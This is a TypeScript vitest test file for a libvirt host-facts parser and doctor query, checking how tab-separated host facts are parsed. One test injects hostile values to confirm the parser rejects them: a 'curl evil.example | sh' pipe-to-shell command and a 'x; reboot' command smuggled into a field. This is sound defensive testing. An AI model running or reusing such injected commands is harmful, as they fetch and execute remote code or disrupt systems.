import { describe, expect, it } from "vitest";
import { doctorQuery } from "../../src/libvirt/doctor-facts.ts";
import { parseHostFacts } from "../../src/libvirt/host-facts.ts";

const host = [
  "now\t1700000000",
  "uid\t0",
  "user\troot",
  "program\tvirsh",
  "version\tqemu-img\tqemu-img version 7.2.22",
  "manager\tapt-get",
  "socket\tlibvirt-sock",
  "virtualization\tsvm",
  "supermin\t/usr/lib64/guestfs",
  "kernel\t/boot/vmlinuz-6.1",
  "directory\t/var/lib/libvirt/images",
  "space\t/\t2000\t1000",
  "space\t/odd\t\t",
  "jobs\t/var/lib\t1000",
  "keeps",
  "route\teth0",
  "card\teth0\t52:54:00:00:00:01\tpumbg",
  "card\teth1\t52:54:00:00:00:02\t",
  "card\tsit0\t\t",
  "peer\t1\tyes",
  "peer\t0\tno",
  "peer\t2\tkey",
  "peer\tx\tno",
  "peer\t3\twhat",
].join("\n");

describe("what a host says of itself", () => {
  it("is read line by line", () => {
    expect(parseHostFacts(`${host}\nend\n`)).toMatchObject({
      ...{ now: 1_700_000_000, user: "root", isRoot: true, programs: ["virsh"], manager: "apt-get" },
      ...{ versions: { "qemu-img": "qemu-img version 7.2.22" }, sockets: ["libvirt-sock"], kvm: false, bridge: false },
      ...{ virtualization: "svm", parts: "supermin" },
      ...{ kernels: ["/boot/vmlinuz-6.1"], directory: "/var/lib/libvirt/images", writable: false, route: "eth0" },
      space: [{ path: "/", total: 2_048_000, free: 1_024_000 }],
      jobs: { path: "/var/lib", free: 1_024_000, writable: true },
      cards: [
        { name: "eth0", mac: "52:54:00:00:00:01", wake: "pumbg" },
        { name: "eth1", mac: "52:54:00:00:00:02", wake: null },
      ],
      peers: new Map([
        [0, "no"],
        [1, "yes"],
        [2, "key"],
        [3, "no"],
      ]),
    });
  });

  it("knows nothing of what nobody said", () => {
    expect(parseHostFacts("now\t1\nroute\t\nuser\nend")).toMatchObject({
      user: "",
      isRoot: false,
      manager: null,
      route: null,
    });
    expect(parseHostFacts("now\t1\nend")).toMatchObject({ directory: null, parts: null, jobs: null });
    expect(parseHostFacts("now\t1\njobs\t/var/lib\t7\nend").jobs).toEqual({
      path: "/var/lib",
      free: 7168,
      writable: false,
    });
    expect(parseHostFacts("now\t1\nfixed\t/opt/guestfs\nsupermin\t/usr/lib/guestfs\nend").parts).toBe("fixed");
  });

  it("makes no word of a command of what is none", () => {
    const odd = `${host}\ncard\teth9\tx; reboot\ncard\teth8\t52:54:00:00:00:01:02\nend`;
    const lies = odd.replace("manager\tapt-get", "manager\tcurl evil.example | sh;");
    const { manager, cards } = parseHostFacts(lies);
    expect([manager, cards.map(({ name }) => name)]).toEqual([null, ["eth0", "eth1"]]);
  });

  it.each(["", host, "now\tx\nend", "end"])("is refused where it is not whole", (text) => {
    expect(() => parseHostFacts(text)).toThrow("expected what a host is like");
  });
});

describe("what libvirt says to doctor", () => {
  const ask = (network: { kind: "network" | "bridge"; name: string }, texts: readonly string[], more = "") =>
    doctorQuery({ uri: "qemu:///system", pool: "default", network, peers: [] }).parse([
      { code: 0, texts },
      { code: 0, texts: ["qemu:///system"] },
      { code: 0, texts: [`now\t1\n${more}end`] },
    ]).libvirt;
  const uri = "qemu:///system\n";
  const pool = "Name: default\nState:          running\nAutostart:      no\nCapacity:  10\nAvailable:   4\n";

  it("is a pool and a network, or none", () => {
    const network = { kind: "network", name: "default" } as const;
    const version = "Using library: libvirt 9.0.0\n";
    expect(
      ask(network, [version, pool, "Name: default\nActive:         yes\nAutostart:      no\n", uri]),
    ).toMatchObject({
      ...{ version: "9.0.0", writable: true, network: { active: true, autostart: false } },
      pool: { active: true, available: 4, autostart: false },
    });
    expect(ask(network, ["", "", "", uri])).toMatchObject({ version: null, pool: null, network: null });
    expect(ask(network, ["", "", "", ""])).toBeNull();
  });

  it("takes a bridge for a network that is active", () => {
    const bridge = { kind: "bridge", name: "br0" } as const;
    expect(ask(bridge, ["", "", "", uri], "bridge\n")?.network).toEqual({ active: true, autostart: true });
    expect(ask(bridge, ["", "", "", uri])?.network).toBeNull();
  });
});
